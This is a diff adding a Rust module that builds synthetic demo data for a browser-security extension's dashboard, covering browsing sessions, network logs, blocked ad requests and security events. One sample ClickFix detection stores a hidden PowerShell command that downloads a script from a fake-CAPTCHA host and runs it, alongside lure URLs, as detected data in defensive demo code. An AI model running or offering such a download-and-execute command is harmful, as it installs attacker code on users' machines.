@@ -0,0 +1,427 @@
+//! Synthetic data for demos and dashboard work (`POST /api/admin/seed`):
+//! clients browsing in sessions, their network logs, and the security and
+//! script events the extension would have sent along the way.
+//!
+//! Generation is deterministic: the same profile and seed give the same
+//! clients, sessions, requests and events. Times are laid out backwards
+//! from the start of the current hour, so the data shows up in "last 24h"
+//! views, and seeding twice within the hour stores nothing new (the logs
+//! and events are deduplicated like a restore). Seeded client_ids start
+//! with `demo-`.
+
+use crate::types::{ExtensionEvent, LogEntry, NetworkLog};
+use chrono::{DateTime, Duration, DurationRound, Utc};
+use serde::Deserialize;
+use serde_json::json;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Profile {
+    /// A dozen clients over a week.
+    #[default]
+    Demo,
+    /// Three clients over a day, for quick UI work.
+    Small,
+}
+
+struct Shape {
+    clients: usize,
+    days: i64,
+    sessions_per_day: usize,
+    batches_per_session: (u64, u64),
+    requests_per_batch: (u64, u64),
+}
+
+impl Profile {
+    pub fn name(self) -> &'static str {
+        match self {
+            Profile::Demo => "demo",
+            Profile::Small => "small",
+        }
+    }
+
+    fn shape(self) -> Shape {
+        match self {
+            Profile::Demo => Shape {
+                clients: 12,
+                days: 7,
+                sessions_per_day: 2,
+                batches_per_session: (3, 8),
+                requests_per_batch: (5, 25),
+            },
+            Profile::Small => Shape {
+                clients: 3,
+                days: 1,
+                sessions_per_day: 2,
+                batches_per_session: (2, 4),
+                requests_per_batch: (5, 15),
+            },
+        }
+    }
+}
+
+/// Pages people spend their day on, with a few paths each.
+const SITES: &[(&str, &[&str])] = &[
+    (
+        "www.google.com",
+        &[
+            "/search?q=quarterly+report+template",
+            "/search?q=weather",
+            "/maps",
+        ],
+    ),
+    ("mail.google.com", &["/mail/u/0/#inbox", "/mail/u/0/#sent"]),
+    (
+        "docs.google.com",
+        &["/document/d/1x2Y3z/edit", "/spreadsheets/d/9a8B7c/edit"],
+    ),
+    ("github.com", &["/", "/pulls", "/rust-lang/rust/issues"]),
+    (
+        "stackoverflow.com",
+        &["/questions/tagged/rust", "/questions/1154"],
+    ),
+    ("app.slack.com", &["/client/T01/C02"]),
+    (
+        "www.youtube.com",
+        &["/", "/watch?v=dQw4w9WgXcQ", "/results?search_query=lofi"],
+    ),
+    ("www.reddit.com", &["/", "/r/programming/"]),
+    ("news.ycombinator.com", &["/", "/item?id=3078128"]),
+    (
+        "en.wikipedia.org",
+        &["/wiki/Domain_Name_System", "/wiki/Transport_Layer_Security"],
+    ),
+    ("www.linkedin.com", &["/feed/", "/jobs/"]),
+    ("chatgpt.com", &["/", "/c/6f1e"]),
+    ("www.amazon.com", &["/", "/gp/cart/view.html"]),
+    ("www.bbc.co.uk", &["/news", "/sport"]),
+];
+
+/// Third parties pages pull scripts, styles and images from.
+const THIRD_PARTIES: &[(&str, &str, &str)] = &[
+    ("fonts.gstatic.com", "/s/roboto/v30/roboto.woff2", "font"),
+    ("fonts.googleapis.com", "/css2?family=Inter", "stylesheet"),
+    (
+        "cdn.jsdelivr.net",
+        "/npm/react@18/umd/react.production.min.js",
+        "script",
+    ),
+    (
+        "ajax.googleapis.com",
+        "/ajax/libs/jquery/3.7.1/jquery.min.js",
+        "script",
+    ),
+    ("www.googletagmanager.com", "/gtag/js?id=G-DEMO", "script"),
+    ("i.ytimg.com", "/vi/dQw4w9WgXcQ/hqdefault.jpg", "image"),
+    ("avatars.githubusercontent.com", "/u/9919?s=40", "image"),
+];
+
+/// What a blocklist typically stops.
+const BLOCKED: &[(&str, &str, &str)] = &[
+    (
+        "securepubads.g.doubleclick.net",
+        "/gampad/ads?iu=/demo",
+        "script",
+    ),
+    ("pixel.adsafeprotected.com", "/services/pub?anId=1", "image"),
+    ("cdn.taboola.com", "/libtrc/demo/loader.js", "script"),
+];
+
+/// Fake-CAPTCHA pages that hand out a command to paste.
+const LURES: &[&str] = &[
+    "https://verify-human-captcha.top/check",
+    "https://cloudflare-check.click/cdn-cgi/verify",
+];
+
+const USER_AGENTS: &[&str] = &[
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36 Edg/128.0.0.0",
+];
+
+/// SplitMix64: small, fast, and the same sequence everywhere.
+struct Rng(u64);
+
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let mut z = self.0;
+        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+        z ^ (z >> 31)
+    }
+
+    /// A number in `[min, max]`.
+    fn between(&mut self, (min, max): (u64, u64)) -> u64 {
+        min + self.next() % (max - min + 1)
+    }
+
+    fn chance(&mut self, p: f64) -> bool {
+        ((self.next() >> 11) as f64 / (1u64 << 53) as f64) < p
+    }
+
+    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
+        &items[self.next() as usize % items.len()]
+    }
+
+    fn hex(&mut self, digits: usize) -> String {
+        let value = format!("{:016x}", self.next());
+        value[..digits].to_string()
+    }
+}
+
+/// What [`generate`] made.
+pub struct Seeded {
+    pub logs: Vec<LogEntry>,
+    pub events: Vec<ExtensionEvent>,
+    pub clients: usize,
+    pub sessions: usize,
+    pub from: DateTime<Utc>,
+    pub to: DateTime<Utc>,
+}
+
+struct Session<'a> {
+    client_id: &'a str,
+    session_id: String,
+    user_agent: &'a str,
+}
+
+impl Session<'_> {
+    fn event(
+        &self,
+        at: DateTime<Utc>,
+        event_type: &str,
+        packet_id: String,
+        category: &str,
+        mut data: serde_json::Value,
+    ) -> ExtensionEvent {
+        if let Some(obj) = data.as_object_mut() {
+            obj.insert("packet_id".into(), packet_id.into());
+            obj.insert("category".into(), category.into());
+        }
+        ExtensionEvent {
+            client_id: Some(self.client_id.to_string()),
+            profile_id: None,
+            session_id: self.session_id.clone(),
+            timestamp: at.to_rfc3339(),
+            user_agent: self.user_agent.to_string(),
+            event_type: event_type.to_string(),
+            data,
+        }
+    }
+}
+
+fn request(
+    rng: &mut Rng,
+    id: &mut u64,
+    url: String,
+    request_type: &str,
+    blocked: bool,
+) -> NetworkLog {
+    *id += 1;
+    NetworkLog {
+        request_id: id.to_string(),
+        method: if request_type == "xmlhttprequest" && rng.chance(0.3) {
+            "POST"
+        } else {
+            "GET"
+        }
+        .to_string(),
+        url,
+        request_type: request_type.to_string(),
+        blocked,
+        block_reason: blocked.then(|| "blocklist".to_string()),
+        reputation_score: None,
+        request_size: None,
+        response_size: (!blocked).then(|| rng.between((300, 250_000))),
+        category: None,
+    }
+}
+
+/// One batch: a page load and what it pulled in.
+fn batch(rng: &mut Rng, id: &mut u64, requests: u64) -> Vec<NetworkLog> {
+    let (host, paths) = rng.pick(SITES);
+    let page = format!("https://{}{}", host, rng.pick(paths));
+    let mut logs = vec![request(rng, id, page, "main_frame", false)];
+    while (logs.len() as u64) < requests {
+        let log = if rng.chance(0.08) {
+            let (host, path, kind) = rng.pick(BLOCKED);
+            request(rng, id, format!("https://{}{}", host, path), kind, true)
+        } else if rng.chance(0.4) {
+            let (host, path, kind) = rng.pick(THIRD_PARTIES);
+            request(rng, id, format!("https://{}{}", host, path), kind, false)
+        } else {
+            let kind = *rng.pick(&["script", "stylesheet", "image", "xmlhttprequest"]);
+            let url = format!(
+                "https://{}/static/{}.{}",
+                host,
+                rng.hex(8),
+                match kind {
+                    "script" => "js",
+                    "stylesheet" => "css",
+                    "image" => "png",
+                    _ => "json",
+                }
+            );
+            request(rng, id, url, kind, false)
+        };
+        logs.push(log);
+    }
+    logs
+}
+
+fn security_events(
+    rng: &mut Rng,
+    session: &Session,
+    at: DateTime<Utc>,
+    packet: &mut dyn FnMut() -> String,
+) -> Vec<ExtensionEvent> {
+    let mut events = Vec::new();
+    if rng.chance(0.05) {
+        let risk = rng.between((55, 95));
+        let command =
+            "powershell -w hidden -c \"iwr https://verify-human-captcha.top/s.ps1 | iex\"";
+        events.push(session.event(
+            at,
+            "clickfix_detection",
+            packet(),
+            "security",
+            json!({
+                "type": "clickfix_detection",
+                "url": rng.pick(LURES),
+                "source": "clipboard",
+                "severity": if risk >= 70 { "high" } else { "medium" },
+                "detection": {
+                    "detected": true,
+                    "riskScore": risk,
+                    "issues": ["powershell", "download_execute", "clickfix_pattern"],
+                    "codePreview": command,
+                    "codeLength": command.len(),
+                    "type": "powershell",
+                    "isPowerShell": true,
+                    "isTerminalCode": true
+                }
+            }),
+        ));
+    }
+    if rng.chance(0.1) {
+        let file_name = rng.pick(&[
+            "Q3-forecast.xlsx",
+            "customer-list.csv",
+            "contract-draft.docx",
+            "screenshot.png",
+        ]);
+        events.push(session.event(
+            at + Duration::seconds(30),
+            "chatgpt_file_upload",
+            packet(),
+            "security",
+            json!({
+                "type": "chatgpt_file_upload",
+                "url": "https://chatgpt.com/",
+                "file_name": file_name,
+                "file_size": rng.between((20_000, 4_000_000)),
+                "source": "fetch"
+            }),
+        ));
+    }
+    events
+}
+
+/// The data for `profile` and `seed`, ending at the start of the hour `now`
+/// is in.
+pub fn generate(profile: Profile, seed: u64, now: DateTime<Utc>) -> Seeded {
+    let shape = profile.shape();
+    let mut rng = Rng(seed);
+    let to = now.duration_trunc(Duration::hours(1)).unwrap_or(now);
+    let from = to - Duration::days(shape.days);
+    let mut packets = 0u64;
+    let mut packet = || {
+        packets += 1;
+        format!("demo-{}-{}-{:06}", profile.name(), seed, packets)
+    };
+    let mut request_id = 10_000u64;
+    let (mut logs, mut events, mut sessions) = (Vec::new(), Vec::new(), 0);
+
+    let clients: Vec<(String, &str)> = (0..shape.clients)
+        .map(|_| (format!("demo-{}", rng.hex(8)), *rng.pick(USER_AGENTS)))
+        .collect();
+    for (client_id, user_agent) in &clients {
+        for day in 0..shape.days {
+            let day_start = from + Duration::days(day);
+            let scan_at = day_start + Duration::minutes(rng.between((0, 60)) as i64);
+            events.push(
+                Session {
+                    client_id,
+                    session_id: format!("{}-scan", client_id),
+                    user_agent,
+                }
+                .event(
+                    scan_at,
+                    "extension_security_scan",
+                    packet(),
+                    "security",
+                    json!({
+                        "type": "extension_security_scan",
+                        "total": rng.between((4, 12)),
+                        "suspicious": u64::from(rng.chance(0.1)),
+                    }),
+                ),
+            );
+            for _ in 0..shape.sessions_per_day {
+                sessions += 1;
+                let session = Session {
+                    client_id,
+                    session_id: format!("{}-{}-{}", rng.hex(8), rng.hex(4), rng.hex(12)),
+                    user_agent,
+                };
+                // Office hours, more or less; always before `to`.
+                let mut at = day_start + Duration::minutes(rng.between((7 * 60, 20 * 60)) as i64);
+                for _ in 0..rng.between(shape.batches_per_session) {
+                    let requests = rng.between(shape.requests_per_batch);
+                    let batch = batch(&mut rng, &mut request_id, requests);
+                    if rng.chance(0.5) {
+                        let script = batch
+                            .iter()
+                            .find(|l| l.request_type == "script" && !l.blocked);
+                        if let Some(script) = script {
+                            events.push(session.event(
+                                at,
+                                "javascript_execution",
+                                packet(),
+                                "javascript",
+                                json!({
+                                    "scriptUrl": script.url,
+                                    "url": batch[0].url,
+                                    "source": "webRequest"
+                                }),
+                            ));
+                        }
+                    }
+                    events.extend(security_events(&mut rng, &session, at, &mut packet));
+                    logs.push(LogEntry {
+                        client_id: Some(client_id.clone()),
+                        profile_id: None,
+                        session_id: session.session_id.clone(),
+                        timestamp: at.to_rfc3339(),
+                        user_agent: user_agent.to_string(),
+                        logs: batch,
+                        username: None,
+                        clock_skew_ms: None,
+                    });
+                    at += Duration::seconds(rng.between((10, 300)) as i64);
+                }
+            }
+        }
+    }
+    logs.sort_by(|a, b| a.timestamp.cmp(&b.timestamp));
+    events.sort_by(|a, b| a.timestamp.cmp(&b.timestamp));
+    Seeded {
+        logs,
+        events,
+        clients: clients.len(),
+        sessions,
+        from,
+        to,
+    }
+}